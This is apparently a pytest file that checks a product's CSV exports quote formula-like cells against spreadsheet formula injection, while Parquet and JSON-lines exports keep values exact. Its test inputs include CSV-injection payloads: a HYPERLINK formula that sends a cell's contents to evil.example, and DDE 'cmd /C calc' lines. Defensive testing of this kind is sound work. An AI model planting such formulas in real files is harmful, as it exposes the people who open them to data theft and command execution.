"""Every CSV the product writes is safe to open in a spreadsheet: a text cell that would be a
formula is quoted (OWASP's rule), reversibly, while Parquet and JSON lines keep the value exact.
On both stores (the ``engine`` fixture)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine

from backfill_assets.cli import main
from backfill_assets.defs.reporting.usage import USAGE_COLUMNS, usage_csv
from backfill_assets.domain.csv_cells import FORMULA_STARTS, QUOTE, csv_cell
from backfill_tests.conftest import import_records
from backfill_tests.pipeline_helpers import run

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "plain-id",
]


def original_cell(cell: str) -> str:
    """The rule the docs give a reader: the exact value is the cell with one leading ' dropped."""
    return cell[1:] if cell.startswith(QUOTE) else cell


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.text())
def test_a_cell_is_never_a_formula_and_reverses_exactly(text: str) -> None:
    cell = csv_cell(text)
    assert not _is_formula(cell)
    assert original_cell(cell) == text
    assert csv_cell(7) == 7  # numbers we write are not text


@pytest.fixture
def hostile_labels(engine: Engine, tmp_path: Path, cli_store: dict[str, str]) -> Engine:
    posts = [
        {"tenant_id": "acme", "post_id": pid, "text": f"post {i}"}
        for i, pid in enumerate(HOSTILE_IDS)
    ]
    import_records(engine, tmp_path, posts)
    run(engine, ["acme"])
    return engine


def test_label_export_csv_quotes_formulas_and_parquet_jsonl_stay_exact(
    hostile_labels: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    exported: dict[str, list[str]] = {}
    for fmt in ("csv", "jsonl", "parquet"):
        out = tmp_path / fmt
        assert main(["export", "--format", fmt, "--out", str(out), "--json"]) == 0
        capsys.readouterr()
        path = out / f"acme.{fmt}"
        if fmt == "csv":
            with path.open(newline="") as f:
                rows = list(csv.reader(f))
            cells = [cell for row in rows for cell in row]
            assert not any(_is_formula(c) for c in cells), cells
            header = rows[0]
            ids = [r[header.index("post_id")] for r in rows[1:]]
            exported[fmt] = sorted(original_cell(i) for i in ids)
        elif fmt == "jsonl":
            exported[fmt] = sorted(json.loads(x)["post_id"] for x in path.read_text().splitlines())
        else:
            exported[fmt] = sorted(pq.read_table(path).column("post_id").to_pylist())
    assert exported["jsonl"] == exported["parquet"] == sorted(HOSTILE_IDS)
    assert exported["csv"] == sorted(HOSTILE_IDS)


def test_usage_csv_quotes_formulas_in_text_cells() -> None:
    row = {
        "tenant": "acme",
        "model": "=cmd|' /C calc'!A0",
        "day": "2026-12-07",
        "calls": 1,
        "calls_cost_unknown": 0,
        "tokens_in": 10,
        "tokens_out": 2,
        "tokens_cached": 0,
        "cached_share": "0.00",
        "tokens": 12,
        "cost_nanos": 1500,
    }
    text = usage_csv([row], USAGE_COLUMNS)
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert not any(_is_formula(c) for c in cells), cells
    assert "'=cmd|' /C calc'!A0" in cells
